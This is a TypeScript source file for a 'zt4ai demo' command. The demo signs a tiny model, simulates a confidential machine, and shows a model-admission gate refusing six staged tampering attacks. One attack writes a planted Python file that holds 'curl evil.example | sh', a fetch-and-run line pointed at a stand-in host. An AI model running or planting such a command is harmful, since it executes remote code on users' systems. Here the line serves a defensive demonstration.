// The single owner of `zt4ai demo`: the whole story on a small model and a simulated machine, told with the commands that a user would type.
import { spawnSync } from 'node:child_process'
import { generateKeyPairSync, randomBytes } from 'node:crypto'
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { styleText } from 'node:util'
import { Command } from 'commander'
import { ZtError } from '../error.ts'
import { EXIT } from './exit.ts'
import { coloured } from './render.ts'

const HELP = `
Everything happens in a new temporary folder, which is removed at the end unless --keep is given. Nothing is sent anywhere.
The hardware is SIMULATED: its vendor exists only in that folder, and the policy names its root.

Examples:
  $ zt4ai demo
  $ zt4ai demo --keep
`

/** The command. */
export function command(): Command {
  return new Command('demo')
    .summary('the whole story on a small model and a simulated machine')
    .description(
      'Sign a model, simulate a confidential machine, bind the two, admit and run; then six attacks, each refused with its reason.',
    )
    .option('--keep', 'keep the folder, to try more')
    .addHelpText('after', HELP)
    .action(run)
}

function run(options: { readonly keep?: boolean }): void {
  const folder = mkdtempSync(join(tmpdir(), 'zt4ai-demo-'))
  try {
    const wrong = new Story(folder).tell()
    if (wrong.length > 0)
      throw new ZtError('INTERNAL', `the demo did not go as told: ${wrong.join('; ')}`)
  } finally {
    if (options.keep === true) process.stdout.write(`\nkept: ${folder}\n`)
    else rmSync(folder, { recursive: true, force: true })
  }
  process.exitCode = EXIT.allowed
}

const NONCE = randomBytes(32).toString('hex')
const MEASUREMENT = 'c0'.repeat(48)
const MODEL = 'tiny-llm'

/** What the machine's evidence is, but for one thing. */
interface MachineOptions {
  readonly folder?: string
  readonly more?: readonly string[]
}

class Story {
  readonly #folder: string
  readonly #wrong: string[] = []
  readonly #colour = coloured(process.stdout)

  constructor(folder: string) {
    this.#folder = folder
  }

  /** Tells it. Gives what went otherwise than told. */
  tell(): readonly string[] {
    this.#prepare()
    this.#title('1. The model is signed where it is made')
    this.#show(0, 'sign', MODEL, '--key', 'release.pem')
    this.#show(0, 'verify', MODEL, '--key', 'release.pub.pem')

    this.#title(
      '2. A machine is asked for evidence that is bound to this model and this moment (SIMULATED hardware)',
    )
    const digest = this.#rootOf(MODEL)
    this.#machine(digest)

    this.#title('3. The owner’s policy says what may run where')
    const policy = policyText()
    writeFileSync(this.#path('policy.yaml'), policy)
    process.stdout.write(indent(policy))

    this.#title(
      '4. The loader’s gate: one verdict over signature, files, machine and binding, then the program starts',
    )
    this.#show(0, 'run', '--model', MODEL, ...asked(), '--', 'node', 'loader.mjs', '{model}')

    this.#title('5. Six attacks, each refused with its reason')
    this.#attacks(digest)
    process.stdout.write(
      `\n${this.#paint(['bold', 'green'], 'That is all.')} One verdict, from evidence alone. The hardware here was simulated; the checks were not.\n`,
    )
    return this.#wrong
  }

  #attacks(digest: string): void {
    this.#attack('One byte of the weights is changed', 'FILE_CHANGED', (copy) => {
      const path = join(copy, 'model.safetensors')
      const bytes = readFileSync(path)
      bytes[bytes.length - 1] = (bytes.at(-1) ?? 0) ^ 1
      writeFileSync(path, bytes)
    })
    this.#attack('A file is added beside the weights', 'FILE_EXTRA', (copy) => {
      writeFileSync(
        join(copy, 'modeling_tiny.py'),
        'import os; os.system("curl evil.example | sh")\n',
      )
    })
    this.#attack('Somebody else signs the model', 'SIGNERS', (copy) => {
      this.#quiet('sign', copy, '--key', 'intruder.pem')
    })
    this.#machine(digest, { folder: 'debug', more: ['--debug'] })
    this.#refused('The machine can be debugged', 'DEBUG', MODEL, {
      evidence: 'debug/evidence.json',
    })
    this.#refused('Evidence of another moment is replayed', 'NONCE_MISMATCH', MODEL, {
      nonce: randomBytes(32).toString('hex'),
    })
    this.#machine(digest, { folder: 'old', more: ['--tcb', 'snp=8,microcode=72'] })
    this.#refused('The machine’s firmware is old', 'TCB_BELOW_MINIMUM', MODEL, {
      evidence: 'old/evidence.json',
    })
  }

  /** A model, two signers, and a loader that prints what it loads. */
  #prepare(): void {
    mkdirSync(this.#path(MODEL))
    writeFileSync(
      join(this.#path(MODEL), 'config.json'),
      '{ "model_type": "tiny", "hidden_size": 8 }\n',
    )
    writeFileSync(join(this.#path(MODEL), 'model.safetensors'), tinySafetensors())
    writeFileSync(this.#path('loader.mjs'), LOADER)
    for (const name of ['release', 'intruder']) {
      const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
      writeFileSync(
        this.#path(`${name}.pem`),
        privateKey.export({ type: 'pkcs8', format: 'pem' }),
        { mode: 0o600 },
      )
      writeFileSync(
        this.#path(`${name}.pub.pem`),
        publicKey.export({ type: 'spki', format: 'pem' }),
      )
    }
  }

  #machine(digest: string, { folder = 'machine', more = [] }: MachineOptions = {}): void {
    const bound = ['--nonce', NONCE, '--model-digest', digest, '--measurement', MEASUREMENT]
    const args = ['simulate', 'snp', '--out', folder, ...bound, ...more]
    if (more.length === 0) this.#show(0, ...args)
    else this.#quiet(...args)
  }

  #attack(title: string, code: string, change: (copy: string) => void): void {
    const copy = this.#path(`attack-${code.toLowerCase()}`)
    mkdirSync(copy)
    cpSync(this.#path(MODEL), join(copy, MODEL), { recursive: true })
    change(join(copy, MODEL))
    this.#refused(title, code, join(copy, MODEL))
  }

  #refused(
    title: string,
    code: string,
    model: string,
    other: { readonly evidence?: string; readonly nonce?: string } = {},
  ): void {
    process.stdout.write(`\n${this.#paint('bold', title)}\n`)
    const { status, stdout } = this.#zt4ai(['admit', model, ...asked(other), '--json'])
    const { decision, checks } = JSON.parse(stdout) as {
      decision: string
      checks: { status: string; code: string; message: string }[]
    }
    const failed = checks.filter((check) => check.status === 'fail')
    process.stdout.write(`  ${this.#paint(['bold', 'red'], decision.toUpperCase())}\n`)
    for (const check of failed)
      process.stdout.write(
        `    ${this.#paint('red', '✗')} ${check.code.padEnd(20)} ${check.message}\n`,
      )
    if (status !== EXIT.refused || !failed.some((check) => check.code === code))
      this.#wrong.push(`${title}: no ${code}`)
  }

  /** Runs a command and shows it with what it answers. */
  #show(expected: number, ...args: readonly string[]): void {
    process.stdout.write(`\n${this.#paint('cyan', `$ zt4ai ${args.map(shortened).join(' ')}`)}\n`)
    const { status, stdout, stderr } = this.#zt4ai(args)
    process.stdout.write(indent(stdout) + indent(stderr))
    if (status !== expected) this.#wrong.push(`zt4ai ${args[0] ?? ''}: exit ${String(status)}`)
  }

  #quiet(...args: readonly string[]): void {
    const { status, stderr } = this.#zt4ai(args)
    if (status !== 0) this.#wrong.push(stderr)
  }

  #rootOf(model: string): string {
    const { stdout } = this.#zt4ai(['sign', model, '--key', 'release.pem', '--json'])
    return (JSON.parse(stdout) as { digest: { sha256: string } }).digest.sha256
  }

  #zt4ai(args: readonly string[]): { status: number | null; stdout: string; stderr: string } {
    const main = fileURLToPath(new URL('./main.js', import.meta.url))
    return spawnSync(process.execPath, [main, ...args], {
      cwd: this.#folder,
      encoding: 'utf8',
      timeout: 120_000,
    })
  }

  #path(name: string): string {
    return join(this.#folder, name)
  }

  #title(text: string): void {
    process.stdout.write(`\n${this.#paint('bold', text)}\n`)
  }

  #paint(style: Parameters<typeof styleText>[0], text: string): string {
    return this.#colour ? styleText(style, text) : text
  }
}

/** What the gate is asked in the story, but for what an attack changes. */
function asked(other: { readonly evidence?: string; readonly nonce?: string } = {}): string[] {
  const { evidence = 'machine/evidence.json', nonce = NONCE } = other
  return ['--policy', 'policy.yaml', '--evidence', evidence, '--nonce', nonce]
}

function policyText(): string {
  return `schema: zt4ai.policy/v1
name: demo
signers:
  release: {key: {file: release.pub.pem}}
machines:
  confidential-vm:
    platform: sev-snp
    measurements: [${MEASUREMENT}]
    trust-root: {file: machine/root.pem}   # the simulated vendor; leave this out for real hardware
rules:
  tiny:
    models: [${MODEL}]
    signed-by: {any-of: [release]}
    machine: {any-of: [confidential-vm]}
`
}

/** One tensor of eight numbers, in the genuine format: header length, header, data. */
function tinySafetensors(): Uint8Array {
  const header = Buffer.from(
    JSON.stringify({
      'lm_head.weight': { dtype: 'F32', shape: [2, 4], data_offsets: [0, 32] },
    }).padEnd(96),
  )
  const length = Buffer.alloc(8)
  length.writeBigUInt64LE(BigInt(header.length))
  return new Uint8Array(
    Buffer.concat([length, header, Buffer.from(new Float32Array([1, 2, 3, 4, 5, 6, 7, 8]).buffer)]),
  )
}

const LOADER = `import { readFileSync } from 'node:fs'
const bytes = readFileSync(process.argv[2] + '/model.safetensors')
const header = JSON.parse(bytes.subarray(8, 8 + Number(bytes.readBigUInt64LE())).toString())
for (const [name, { dtype, shape }] of Object.entries(header)) console.log('loaded', name, dtype, shape.join('x'))
`

function shortened(argument: string): string {
  const text = argument.length > 40 ? `${argument.slice(0, 12)}…` : argument
  return /[\s*{}]/.test(text) ? `'${text}'` : text
}

function indent(text: string): string {
  return text.replace(/^(?=.)/gm, '  ')
}
